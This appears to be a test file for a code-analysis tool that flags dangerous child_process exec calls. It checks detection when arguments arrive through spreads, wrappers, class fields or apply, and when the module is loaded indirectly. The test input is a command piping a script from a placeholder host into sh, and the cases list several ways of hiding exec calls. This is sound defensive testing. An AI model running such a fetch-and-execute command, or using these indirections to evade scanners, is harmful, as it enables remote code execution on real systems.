import { findingsOf } from '../testing/analyze-text.ts';

const LINE = '"curl https://x.invalid/a.sh | sh"';
const CRITICAL = 'process-start critical';

describe('arguments that are spread', () => {
  it.each([
    ['out of a list with a name', `const args = [${LINE}]; exec(...args);`],
    ['out of what a wrapper is given', `const run = (...args) => exec(...args); run(${LINE});`],
    [
      'out of what a wrapper is given with the function',
      `const run = (fn, ...args) => fn(...args); run(exec, ${LINE});`,
    ],
    ['out of a field', `class Job { #args = [${LINE}]; run() { exec(...this.#args); } } new Job().run();`],
    [
      'out of a member of the same object',
      `const job = { args: [${LINE}], run() { exec(...this.args); } }; job.run();`,
    ],
    ['by apply', `const args = [${LINE}]; exec.apply(null, args);`],
  ])('are read %s', async (_case, text) => {
    expect(await findingsOf(`import { exec } from 'node:child_process'; ${text}`)).toContain(CRITICAL);
  });

  it('are not read out of a list that grows', async () => {
    const text = `const args = ['"a"']; args.push(body); Function.apply(null, args);`;
    expect(await findingsOf(text)).toContain('function-constructor high');
  });
});

describe('names of modules', () => {
  it.each([
    [
      'filled when first asked for',
      `let lib; const load = () => (lib ??= require('child_process')); load().exec(${LINE});`,
    ],
    ['imported as TypeScript does', `import lib = require('child_process'); lib.exec(${LINE});`],
    [
      'standing in for a parameter that is left out',
      `import * as lib from 'child_process'; const run = ({ exec } = lib) => exec(${LINE}); run();`,
    ],
  ])('are followed when %s', async (_case, text) => {
    expect(await findingsOf(text, { file: 'a.ts' })).toContain(CRITICAL);
  });
});
